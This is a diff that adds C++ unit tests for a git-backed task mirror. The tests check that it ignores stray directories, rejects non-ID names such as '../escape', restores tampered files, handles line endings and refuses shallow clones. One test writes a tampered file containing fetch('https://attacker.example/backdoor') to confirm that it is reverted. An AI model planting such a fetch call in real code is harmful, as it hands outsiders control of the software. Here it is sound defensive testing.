@@ -4,6 +4,7 @@
 #include <sys/stat.h>
 #include <utime.h>
 
+#include <algorithm>
 #include <optional>
 #include <thread>
 #include <vector>
@@ -459,12 +460,152 @@ TEST_F(MirrorTest, OpeningUndoesWhatWasStagedUnderTasks) {
   ASSERT_EQ(test::git(repo(), {"add", "tasks"}).exit_code, 0);
   test::write_text(task_file, "a1");
   ASSERT_EQ(test::git(repo(), {"rm", "-q", "--cached", "tasks/" + kOther + "/task.json"}).exit_code, 0);
-  test::write_text(m_settings.path / "tasks/README.md", "a file directly in tasks/");
-  ASSERT_EQ(test::git(repo(), {"add", "tasks/README.md"}).exit_code, 0);
+  test::write_text(m_settings.path / "tasks" / kOther / "extra.txt", "a file added to a task directory");
+  ASSERT_EQ(test::git(repo(), {"add", "tasks/" + kOther + "/extra.txt"}).exit_code, 0);
   EXPECT_NE(git_out({"status", "--porcelain"}), "");
 
   Mirror reopened = open();
   EXPECT_TRUE(test::repository_consistent(m_settings.path));
-  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks/README.md"));
+  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kOther / "extra.txt"));
   EXPECT_EQ(test::read_text(task_file), "a1");
+}
+
+TEST_F(MirrorTest, OnlyDirectoriesNamedByTaskIdsAreTasks) {
+  const std::string upper = "5F0E2A51-8A3B-4C1D-9E2F-0123456789AB"; // kOther in capitals: never written so
+  {
+    Mirror mirror = open();
+    apply(mirror, snapshot("a1"), info(kTask, "1"));
+  }
+  // A person's files beside the tasks: committed, staged and untracked.
+  test::write_text(m_settings.path / "tasks/docs/README.md", "how we review tasks");
+  test::write_text(m_settings.path / "tasks" / upper / "task.ts", "not a task");
+  test::write_text(m_settings.path / "tasks/line\nbreak/task.ts", "not a task either");
+  test::write_text(m_settings.path / "tasks/README.md", "a file directly in tasks/");
+  ASSERT_EQ(test::git(repo(), {"add", "tasks"}).exit_code, 0);
+  ASSERT_EQ(test::git(repo(), {"-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "-q", "-m",
+                               "notes"})
+                .exit_code,
+            0);
+  test::write_text(m_settings.path / "tasks/docs/staged.md", "staged");
+  ASSERT_EQ(test::git(repo(), {"add", "tasks/docs/staged.md"}).exit_code, 0);
+  test::write_text(m_settings.path / "tasks/docs/draft.md", "untracked");
+  test::write_text(m_settings.path / "tasks/docs/README.md", "edited");
+
+  Mirror reopened = open();
+  auto mirrored = reopened.mirrored_tasks();
+  ASSERT_TRUE(mirrored.ok()) << mirrored.error().message;
+  EXPECT_EQ(*mirrored, std::vector<std::string>{kTask});
+  auto at_head = reopened.tasks_at_head();
+  ASSERT_TRUE(at_head.ok()) << at_head.error().message;
+  EXPECT_EQ(at_head->size(), 1u);
+  EXPECT_TRUE(at_head->find(kTask).has_value());
+  EXPECT_EQ(reopened.finish_pass().ok(), true);
+  EXPECT_EQ(test::read_text(m_settings.path / "tasks/docs/README.md"), "edited");
+  EXPECT_EQ(test::read_text(m_settings.path / "tasks/docs/draft.md"), "untracked");
+  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / upper / "task.ts"), "not a task");
+  EXPECT_EQ(git_out({"status", "--porcelain"}),
+            " M tasks/docs/README.md\nA  tasks/docs/staged.md\n?? tasks/docs/draft.md\n");
+
+  // Deleting the task keeps them too.
+  EXPECT_EQ(apply(reopened, std::nullopt, info(kTask, "2")).kind, ChangeKind::deleted);
+  EXPECT_EQ(git_out({"ls-tree", "--name-only", "HEAD", "tasks/"}),
+            "tasks/" + upper + "\ntasks/README.md\ntasks/docs\n\"tasks/line\\nbreak\"\n");
+}
+
+TEST_F(MirrorTest, ANameThatIsNotATaskIdIsNeverCommitted) {
+  Mirror mirror = open();
+  for (const std::string name : {"docs", "line\nbreak", "5F0E2A51-8A3B-4C1D-9E2F-0123456789AB", "../escape"}) {
+    auto applied = mirror.apply(std::nullopt, info(name, "1"));
+    ASSERT_FALSE(applied.ok()) << name;
+    EXPECT_NE(applied.error().message.find("is not a task ID"), std::string::npos) << applied.error().message;
+    EXPECT_EQ(applied.error().message.find('\n'), std::string::npos) << applied.error().message;
+  }
+  EXPECT_TRUE(mirror.finish_pass().ok());
+  EXPECT_NE(test::git(repo(), {"rev-parse", "--verify", "-q", "HEAD"}).exit_code, 0) << "something was committed";
+}
+
+TEST_F(MirrorTest, EachPassPutsTheTaskDirectoriesBackToHead) {
+  Mirror mirror = open();
+  apply(mirror, snapshot("a1"), info(kTask, "1"));
+  apply(mirror, snapshot("b1"), info(kOther, "1"));
+  const auto task_dir = m_settings.path / "tasks" / kTask;
+  test::write_text(task_dir / "task.ts", "a1\nfetch('https://attacker.example/backdoor');\n");
+  test::write_text(task_dir / "notes.md", "stray");
+  std::filesystem::remove(m_settings.path / "tasks" / kOther / "task.json");
+  std::vector<std::string> lines;
+  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });
+
+  // A pass that commits nothing, as most do.
+  EXPECT_EQ(mirror.apply(snapshot("b1"), info(kOther, "1")).value().kind, ChangeKind::unchanged);
+  const auto finished = mirror.finish_pass();
+  log::set_sink({});
+  ASSERT_TRUE(finished.ok()) << finished.error().message;
+  EXPECT_EQ(test::read_text(task_dir / "task.ts"), "a1");
+  EXPECT_FALSE(std::filesystem::exists(task_dir / "notes.md"));
+  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kOther / "task.json"), snapshot("b1").files[0].content);
+  EXPECT_TRUE(test::repository_consistent(m_settings.path));
+  auto logged = [&](const std::string &text) {
+    return std::any_of(lines.begin(), lines.end(),
+                       [&](const auto &line) { return line.find(text) != std::string::npos; });
+  };
+  EXPECT_TRUE(logged("restoring tasks/" + kTask + "/task.ts to the version in HEAD"));
+  EXPECT_TRUE(logged("restoring tasks/" + kOther + "/task.json to the version in HEAD"));
+  EXPECT_TRUE(logged("removing tasks/" + kTask + "/notes.md"));
+
+  // The next pass finds nothing to put back.
+  lines.clear();
+  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });
+  const auto again = mirror.finish_pass();
+  log::set_sink({});
+  ASSERT_TRUE(again.ok()) << again.error().message;
+  EXPECT_TRUE(lines.empty()) << lines.front();
+}
+
+TEST_F(MirrorTest, AGitattributesThatConvertsFilesCannotMakeTheTaskFilesDiffer) {
+  {
+    Mirror mirror = open();
+    apply(mirror, snapshot("a1"), info(kOther, "1"));
+  }
+  test::write_text(m_settings.path / ".gitattributes", "*.ts text eol=lf\n");
+  ASSERT_EQ(test::git(repo(), {"add", ".gitattributes"}).exit_code, 0);
+  ASSERT_EQ(test::git(repo(), {"-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "-q", "-m",
+                               "line endings"})
+                .exit_code,
+            0);
+  const std::string crlf = "line one\r\nline two\r\n";
+  Mirror mirror = open();
+  apply(mirror, snapshot(crlf), info(kTask, "1"));
+  const auto code = m_settings.path / "tasks" / kTask / "task.ts";
+  // New mtime, same bytes: git and libgit2 compare the content again, through the attributes.
+  std::filesystem::last_write_time(code, std::filesystem::last_write_time(code) + 2s);
+  EXPECT_EQ(git_out({"status", "--porcelain"}), "");
+
+  std::filesystem::last_write_time(code, std::filesystem::last_write_time(code) + 2s);
+  std::vector<std::string> lines;
+  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });
+  const auto finished = mirror.finish_pass();
+  log::set_sink({});
+  ASSERT_TRUE(finished.ok()) << finished.error().message;
+  EXPECT_TRUE(lines.empty()) << lines.front();
+  EXPECT_EQ(test::read_text(code), crlf);
+  EXPECT_TRUE(test::repository_consistent(m_settings.path));
+}
+
+TEST_F(MirrorTest, AShallowCloneIsRefused) {
+  {
+    Mirror mirror = open();
+    apply(mirror, snapshot("a1"), info(kTask, "1"));
+    apply(mirror, snapshot("a2"), info(kTask, "2"));
+  }
+  const auto clone = m_dir / "shallow";
+  ASSERT_EQ(test::run_process({"git", "clone", "-q", "--depth", "1", "file://" + repo(), clone.string()}).exit_code, 0);
+  m_settings.path = clone;
+  for (const auto access : {Mirror::Access::read_write, Mirror::Access::read_only}) {
+    auto opened = Mirror::open(m_settings, access);
+    ASSERT_FALSE(opened.ok());
+    EXPECT_NE(opened.error().message.find("repository " + clone.string() + ": is a shallow clone"), std::string::npos)
+        << opened.error().message;
+    EXPECT_NE(opened.error().message.find("git -C " + clone.string() + " fetch --unshallow"), std::string::npos)
+        << opened.error().message;
+  }
 }
